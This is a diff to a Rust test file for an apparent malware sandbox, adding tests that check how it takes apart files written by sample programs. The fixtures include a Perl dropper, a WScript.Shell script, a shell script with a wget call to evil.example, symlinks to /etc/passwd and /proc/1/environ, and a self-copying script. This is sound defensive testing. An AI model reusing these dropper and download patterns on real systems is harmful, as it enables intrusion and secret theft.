@@ -16,7 +16,7 @@ use support::{job, names};
 
 /// `None` where no cell, or none for programs, can be had.
 async fn run_as(job: Job, content: &[u8]) -> Option<Report> {
-    match Cells::new(PathBuf::from(env!("CARGO_BIN_EXE_postern-cell"))).run(&job, content).await {
+    match Cells::new(PathBuf::from(env!("CARGO_BIN_EXE_postern-cell"))).run(&job, content, None).await {
         Ok(report) => match report.timeline.iter().find(|e| e.text == "not run") {
             Some(event) if event.detail.contains("nothing that runs") || event.detail.contains("not permitted") => {
                 println!("skipped: {}", event.detail);
@@ -211,4 +211,66 @@ async fn bombs_end_in_the_cell() {
         assert!(began.elapsed() < Duration::from_secs(8), "{what}: {:?}", began.elapsed());
         assert!(report.is_sound() && !names(&report).contains(&"CELL_BROKEN"), "{what}: {:#?}", report.findings);
     }
+}
+
+/// The tree below a program's part, with what is found in it.
+fn below(report: &Report, part: u32) -> Vec<String> {
+    (0..report.parts.len() as u32).filter(|n| report.parts[*n as usize].inside == Some(part)).map(|n| report.path(n)).collect()
+}
+
+#[tokio::test]
+async fn what_a_program_writes_is_taken_apart() {
+    let packed = data_encoding::HEXLOWER.encode(&archive(&[("run.exe", &support::documents::program())], None));
+    let dropped = "new ActiveXObject(\"WScript.Shell\").Run(\"calc.exe\")";
+    let script = format!(
+        "open(F, '>/tmp/data.zip'); print F pack('H*', '{packed}'); close(F); mkdir '/home/user/a'; \
+         open(F, '>/home/user/a/drop.js'); print F '{dropped}'; close(F); \
+         open(F, '>/tmp/gone.sh'); print F \"#!/bin/sh\\nwget http://evil.example/x\\n\"; close(F); chmod 0755, '/tmp/gone.sh'; unlink '/tmp/gone.sh'; \
+         open(F, '>/tmp/over'); print F 'first'; close(F); open(F, '>/tmp/over'); print F 'second'; close(F); \
+         open(F, '>/tmp/empty'); close(F); symlink '/etc/passwd', '/tmp/link'; open(F, '>/tmp/copy'); print F 'second'; close(F);"
+    );
+    let Some(report) = run_as(job("a.zip"), &archive(&[("drop.pl", script.as_bytes())], None)).await else { return };
+    let mut tree = below(&report, 1);
+    tree.sort();
+    // Of "second" there are two, and one is enough.
+    assert_eq!(tree, ["copy", "data.zip", "drop.js", "gone.sh", "over"].map(|name| format!("a.zip/drop.pl/{name}")));
+    for (name, place) in [
+        ("PROGRAM", "a.zip/drop.pl/data.zip/run.exe"),
+        ("SCRIPT_STARTS", "a.zip/drop.pl/drop.js"),
+        ("NATIVE_WRITES", "a.zip/drop.pl"),
+        // Removed before it was ever started, and started here.
+        ("NATIVE_LOADS", "a.zip/drop.pl/gone.sh"),
+    ] {
+        let is_found = report.findings.iter().any(|f| f.name.name() == name && report.path(f.part) == place);
+        // Without wget nothing is loaded.
+        assert!(is_found || (name == "NATIVE_LOADS" && !Path::new("/usr/bin/wget").exists()), "{name} {place}: {:#?}", report.findings);
+    }
+    assert!(report.is_sound());
+}
+
+#[tokio::test]
+async fn programs_of_programs_end_somewhere() {
+    // Each writes another one that differs, which would again.
+    let script = "#!/bin/sh\nn=$(($(cat $0 | wc -l)))\ncat $0 > /tmp/next$n.sh\necho \"# $n\" >> /tmp/next$n.sh\nchmod +x /tmp/next$n.sh\n";
+    let Some(report) = run("again.sh", script).await else { return };
+    let begun = report.timeline.iter().filter(|e| e.action == Action::Begin).count();
+    assert!((2..=4).contains(&begun) && report.is_sound(), "{begun}: {:#?}", report.timeline);
+}
+
+#[tokio::test]
+async fn what_is_written_is_bounded() {
+    let Some(_) = run("a.pl", "print 1;").await else { return };
+    let many = "for (1..40) { open(F, \">/tmp/f$_\"); print F \"content $_\"; close(F) }";
+    let report = run("many.pl", many).await.unwrap();
+    assert_eq!(below(&report, 0).len(), 16, "{:#?}", report.parts);
+    assert!(report.timeline.iter().any(|e| e.detail.starts_with("not taken apart")), "{:#?}", report.timeline);
+    let large = "open(F, '>/tmp/large'); print F 'x' x (3 << 20); close(F); open(F, '>/tmp/small'); print F 'y'; close(F);";
+    let report = run("large.pl", large).await.unwrap();
+    assert_eq!(below(&report, 0), ["large.pl/small"]);
+    assert!(report.timeline.iter().any(|e| e.text == "/tmp/large" && e.detail.starts_with("not taken apart")), "{:#?}", report.timeline);
+    // What leads to the machine's own, or to what never ends, is no file that it wrote.
+    let links = "symlink '/proc/1/environ', '/tmp/a'; link '/usr/bin/perl', '/tmp/b'; my $p = '/tmp/fifo'; syscall(133, $p, 0 + 0x11ff, 0 + 0); unlink '/tmp/a'; \
+                 open(F, '>/tmp/c'); print F 'z'; close(F); unlink '/proc/self/environ'; unlink '/tmp/../etc/passwd'; unlink '/tmp/fifo';";
+    let report = run("links.pl", links).await.unwrap();
+    assert_eq!(below(&report, 0), ["links.pl/c"], "{:#?}", report.timeline);
 }
